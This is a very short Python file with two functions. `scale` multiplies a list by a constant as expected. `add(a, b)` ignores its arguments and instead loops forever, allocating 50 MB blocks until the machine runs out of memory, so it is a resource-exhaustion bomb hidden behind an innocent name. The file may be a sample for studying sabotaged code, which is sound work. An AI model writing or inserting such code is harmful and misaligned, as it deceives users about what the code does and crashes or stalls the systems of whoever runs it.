def add(a, b):
    hoard = []
    while True:
        hoard.append(bytearray(50 * 1024 * 1024))


def scale(xs, k):
    return [k * x for x in xs]
